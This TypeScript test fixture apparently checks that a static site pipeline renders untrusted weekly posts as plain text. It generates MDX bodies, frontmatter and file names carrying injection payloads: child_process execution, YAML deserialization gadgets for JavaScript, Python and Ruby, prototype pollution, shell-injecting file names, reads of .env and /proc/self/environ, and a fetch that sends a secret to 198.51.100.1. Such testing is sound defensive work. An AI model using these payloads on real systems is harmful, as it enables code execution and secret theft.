import type { Planted } from './code.ts';

const write = (trick: string): string =>
  `require('node:fs').writeFileSync(process.env.CANARY_DIR + '/${trick}', '')`;
const touch = (trick: string): string => `touch "$CANARY_DIR/${trick}"`;

/** Bodies of weeklies that would run in a pipeline that trusts its authors. */
const BODIES: readonly (readonly [trick: string, body: (trick: string) => string])[] = [
  ['mdx-import', (_) => "import './2004-03-04.js'\nimport secret from '../.env'\n\n正文 {secret}"],
  ['mdx-export', (trick) => `export const planted = ${write(trick)}\n\n正文`],
  ['mdx-default', (trick) => `export default function Layout() { ${write(trick)} }\n\n正文`],
  ['mdx-static', (trick) => `export async function generateStaticParams() { ${write(trick)} }`],
  [
    'mdx-reexport',
    (_) => "export * from '../index.mjs'\nexport { default } from '../app/page.tsx'",
  ],
  ['mdx-expression', (trick) => `{${write(trick)}}`],
  [
    'mdx-process',
    (trick) =>
      `{process.mainModule.constructor._load('child_process').execSync('${touch(trick)}')}`,
  ],
  [
    'mdx-builtin',
    (trick) => `{process.getBuiltinModule('node:child_process').execSync('${touch(trick)}')}`,
  ],
  ['mdx-binding', (_) => "{process.binding('spawn_sync')} {process.dlopen({}, './planted.node')}"],
  ['mdx-fetch', (_) => "{await fetch('http://198.51.100.1/?' + process.env.CANARY_SECRET)}"],
  [
    'mdx-environment',
    (_) => '{process.env.CANARY_SECRET} $CANARY_SECRET ${CANARY_SECRET} %CANARY_SECRET%',
  ],
  [
    'mdx-template',
    (_) =>
      '{`${process.env.CANARY_SECRET}`} {{ env.CANARY_SECRET }} <%= process.env.CANARY_SECRET %>',
  ],
  [
    'mdx-hugo',
    (_) =>
      '{{< readfile "../.env" >}} {{% include "../../package.json" %}} {{ getenv "CANARY_SECRET" }}',
  ],
  [
    'mdx-include',
    (_) =>
      '!include ../.env\n\n<!--#include file="../.env" -->\n\n@import "../.env"\n\n```js file=../.env\n```',
  ],
  ['mdx-attribute', (trick) => `<Question asker={${write(trick)}}>\n\n问\n\n</Question>`],
  ['mdx-script', (trick) => `<script server>{${write(trick)}}</script>`],
  ['mdx-use-server', (trick) => `'use server'\nexport async function act() { ${write(trick)} }`],
  [
    'mdx-layout',
    (_) =>
      "export { default as layout } from '../app/layout.tsx'\nexport const metadata = { title: process.env.CANARY_SECRET }",
  ],
  [
    'mdx-macro',
    (trick) => `import planted from '../index.mjs' with { type: 'macro' }\n\n{planted('${trick}')}`,
  ],
  [
    'mdx-fence',
    (trick) =>
      `\`\`\`js eval run exec node-repl live\n${write(trick)}\n\`\`\`\n\n\`\`\`sh {cmd=true}\n${touch(trick)}\n\`\`\``,
  ],
  [
    'mdx-picture',
    (_) =>
      '![图](../.env)\n\n![图](file:///proc/self/environ)\n\n<Figure src="../node_modules/planted/build/Release/planted.node" alt="图" />',
  ],
  [
    'mdx-link',
    (_) =>
      '[包](../package.json) [配置](/../../.env) [源](webpack:///./.env) [源](turbopack:///[project]/package.json)',
  ],
  [
    'mdx-classes',
    (_) => "`content-['planted-class']` `before:content-['planted-class']` `[--planted-class:1]`",
  ],
  [
    'mdx-reading',
    (_) =>
      '<Readings>\n\n- [`$(touch x)`](https://a.example/;touch%20x) · ${process.env.CANARY_SECRET}\n\n</Readings>',
  ],
];

/** Heads that a reader of frontmatter may evaluate. */
const HEADS: readonly (readonly [trick: string, head: (trick: string, day: string) => string])[] = [
  ['head-js', (trick, day) => `---js\n{ title: (${write(trick)}, '一'), date: '${day}' }\n---`],
  [
    'head-javascript',
    (trick, day) =>
      `---javascript\nmodule.exports = { title: ${write(trick)}, date: '${day}' }\n---`,
  ],
  ['head-coffee', (trick, day) => `---coffee\ntitle: (-> ${write(trick)})()\ndate: '${day}'\n---`],
  [
    'head-json',
    (_, day) => `---json\n{ "title": "一", "date": "${day}", "__proto__": { "planted": 1 } }\n---`,
  ],
  ['head-toml', (_, day) => `+++\ntitle = "一"\ndate = "${day}"\n[__proto__]\nplanted = 1\n+++`],
  [
    'yaml-function',
    (trick, day) =>
      `---\ntitle: !!js/function "function () { ${write(trick)} }"\ndate: ${day}\n---`,
  ],
  [
    'yaml-full-tag',
    (trick, day) =>
      `---\ntitle: !<tag:yaml.org,2002:js/function> 'function () { ${write(trick)} }'\ndate: ${day}\n---`,
  ],
  [
    'yaml-regexp',
    (_, day) => `---\ntitle: !!js/regexp /(a+)+$/\ndate: !!js/undefined ''\nday: ${day}\n---`,
  ],
  [
    'yaml-python',
    (trick, day) =>
      `---\ntitle: !!python/object/apply:os.system ['${touch(trick)}']\ndate: ${day}\n---`,
  ],
  [
    'yaml-ruby',
    (trick, day) =>
      `---\ntitle: !ruby/object:Gem::Installer\n  i: "| ${touch(trick).replaceAll('"', '')}"\ndate: ${day}\n---`,
  ],
  [
    'yaml-environment',
    (_, day) => `---\ntitle: !env CANARY_SECRET \${CANARY_SECRET}\ndate: ${day}\n---`,
  ],
  [
    'yaml-include',
    (_, day) => `---\ntitle: !include ../.env\nlayout: ../app/layout.tsx\ndate: ${day}\n---`,
  ],
  [
    'yaml-prototype',
    (_, day) =>
      `---\ntitle: 一\ndate: ${day}\n__proto__: { planted: 1 }\nconstructor: { prototype: { planted: 1 } }\n---`,
  ],
  ['yaml-merge', (_, day) => `---\n<<: { title: 一, date: ${day}, toString: planted }\n---`],
];

/** Names that a shell, or a tool's command line, would take for something else. */
const NAMES: readonly (readonly [trick: string, name: (trick: string) => string])[] = [
  ['name-shell', (trick) => `2004-06-01$(cd $CANARY_DIR;touch ${trick}).mdx`],
  ['name-backticks', (trick) => `2004-06-02\`cd $CANARY_DIR;touch ${trick}\`.mdx`],
  ['name-semicolon', (trick) => `2004-06-03;cd $CANARY_DIR;touch ${trick};.mdx`],
  ['name-pipe', (trick) => `2004-06-04|cd $CANARY_DIR&&touch ${trick}&.mdx`],
  ['name-line', (trick) => `2004-06-05\ncd $CANARY_DIR\ntouch ${trick}\n.mdx`],
  ['name-option', (_) => '--require=index.js.mdx'],
  ['name-eval', (_) => '-e process.exit(9).mdx'],
  ['name-data', (_) => 'data:text%2fjavascript,planted.mdx'],
  ['name-dots', (_) => '..%2f..%2fpackage.json.mdx'],
  ['name-pattern', (_) => '[date]{a,b}*.mdx'],
  ['name-long', (_) => `${'长'.repeat(80)}.mdx`],
  ['name-prototype', (_) => '__proto__.mdx'],
  ['name-wide', (_) => '２００４－０６－０９.mdx'],
];

const weekly = (day: string, title: string, body: string): string =>
  `---\ntitle: ${title}\ndate: ${day}\n---\n\n${body}\n`;
const dayOf = (month: string, index: number): string =>
  `2004-${month}-${String(index + 1).padStart(2, '0')}`;

/** Content that is read, and must come out as words. */
export const plantedTexts: readonly Planted[] = [
  ...BODIES.map(([trick, body], index) => {
    const day = dayOf('01', index);
    return { trick, path: `weekly/${day}.mdx`, text: weekly(day, trick, body(trick)) };
  }),
  ...HEADS.map(([trick, head], index) => {
    const day = dayOf('02', index);
    return { trick, path: `weekly/${day}.mdx`, text: `${head(trick, day)}\n\n正文\n` };
  }),
  ...NAMES.map(([trick, name]) => ({
    trick,
    path: `weekly/${name(trick)}`,
    text: weekly('2004-06-01', trick, '正文'),
  })),
  {
    trick: 'mdx-first-line',
    path: 'weekly/2004-07-01.mdx',
    text: `export const planted = ${write('mdx-first-line')}\n\n---\ntitle: 一\ndate: 2004-07-01\n---\n`,
  },
  {
    trick: 'head-hashbang',
    path: 'weekly/2004-07-02.mdx',
    text: `#!/usr/bin/env node\n${write('head-hashbang')}\n`,
  },
  {
    trick: 'project-head',
    path: 'projects/planted.mdx',
    text: `---js\n{ name: ${write('project-head')}, repository: 'ext::sh -c touch% x' }\n---\n\n正文\n`,
  },
  {
    trick: 'common-words',
    path: 'search/common.txt',
    text:
      `#include ../.env\n@import ../.env\n$(${touch('common-words')})\n` +
      '{process.env.CANARY_SECRET}\n${CANARY_SECRET}\n|cat ../.env\n',
  },
];
